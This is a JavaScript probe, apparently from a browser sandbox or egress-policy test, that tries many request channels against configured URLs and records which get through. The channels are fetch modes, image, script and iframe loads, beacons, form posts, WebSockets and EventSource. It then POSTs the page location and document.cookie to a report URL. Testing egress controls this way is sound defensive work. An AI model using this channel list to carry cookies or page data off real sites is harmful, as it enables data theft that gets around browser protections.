// Tries everything a page can send anywhere, and reports what it got: `refused`, `nothing`, or what it read.
// ATTACK says where to: {"report": URL, "targets": [{"url", "method", "type", "body"}], "sockets": [URL], "run": text}.

const PATIENCE_MS = 4000;

function limited(promise) {
  const late = new Promise((done) => setTimeout(done, PATIENCE_MS, "nothing"));
  return Promise.race([promise, late]).catch((error) => "refused " + error.name);
}

function told(text) {
  return text === "" ? "nothing" : text.includes("not_allowed") ? "refused" : "read " + text.slice(0, 200);
}

async function answer(request) {
  return told(await (await request).text());
}

function loaded(tag, attribute, url) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("refused");
    if (tag === "link") element.rel = "stylesheet";
    element[attribute] = url;
    document.body.append(element);
  });
}

function framed(fill) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    frame.onload = () => {
      let text = "";
      try {
        text = frame.contentDocument.body.innerText;
      } catch (error) {
        text = "";
      }
      if (frame.dataset.sent) done(told(text));
    };
    document.body.append(frame);
    frame.dataset.sent = "yes";
    fill(frame);
  });
}

function form(target, type) {
  return framed((frame) => {
    const element = document.createElement("form");
    element.action = target.url;
    element.method = "post";
    element.enctype = type;
    element.target = frame.name;
    const field = document.createElement("input");
    field.name = target.body;
    element.append(field);
    document.body.append(element);
    element.submit();
  });
}

function socket(url) {
  return new Promise((done) => {
    const connection = new WebSocket(url);
    connection.onopen = () => done("open");
    connection.onerror = () => done("refused");
  });
}

function events(url) {
  return new Promise((done) => {
    const source = new EventSource(url);
    source.onopen = () => done("open");
    source.onmessage = (event) => done("read " + event.data);
    source.onerror = () => done("refused");
  });
}

async function sent(target) {
  const init = { method: target.method, body: target.method === "GET" ? undefined : target.body };
  const simple = ["GET", "POST"].includes(target.method);
  const tries = {
    "fetch cors": () => answer(fetch(target.url, { ...init, headers: { "content-type": target.type } })),
    "fetch own referrer": () => answer(fetch(target.url, { ...init, referrer: location.origin + "/console/" })),
    "fetch no referrer": () => answer(fetch(target.url, { ...init, referrerPolicy: "no-referrer" })),
    "fetch no-cors": () => (simple ? answer(fetch(target.url, { ...init, mode: "no-cors" })) : "nothing"),
    "fetch keepalive": () => answer(fetch(target.url, { ...init, keepalive: true, credentials: "include" })),
  };
  if (target.method === "GET") {
    tries["image"] = () => loaded("img", "src", target.url);
    tries["script"] = () => loaded("script", "src", target.url);
    tries["style"] = () => loaded("link", "href", target.url);
    tries["iframe"] = () => framed((frame) => (frame.src = target.url));
    tries["events"] = () => events(target.url);
  }
  if (target.method === "POST") {
    tries["beacon"] = () => (navigator.sendBeacon(target.url, target.body) ? "nothing" : "refused");
    for (const type of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      tries["form " + type] = () => form(target, type);
    }
  }
  const got = {};
  for (const [name, attempt] of Object.entries(tries)) {
    got[`${name}: ${target.method} ${target.url}`] = await limited((async () => attempt())());
  }
  return got;
}

function stored() {
  try {
    localStorage.setItem("kept", "yes");
    return localStorage.getItem("kept");
  } catch (error) {
    return error.name;
  }
}

function cookie() {
  try {
    document.cookie = "scripted=yes; path=/";
    return document.cookie;
  } catch (error) {
    return error.name;
  }
}

async function attack() {
  const got = {};
  for (const part of await Promise.all(ATTACK.targets.map(sent))) Object.assign(got, part);
  for (const url of ATTACK.sockets) got["socket: " + url] = await limited(socket(url));
  const own = await limited(fetch(location.href, { headers: { "x-again": "1" } }).then((answer) => answer.status));
  const report = { run: ATTACK.run, place: location.href, origin: window.origin, storage: stored(), cookie: cookie(), own, got };
  await fetch(ATTACK.report, { method: "POST", body: JSON.stringify(report), mode: "no-cors" });
}

attack();
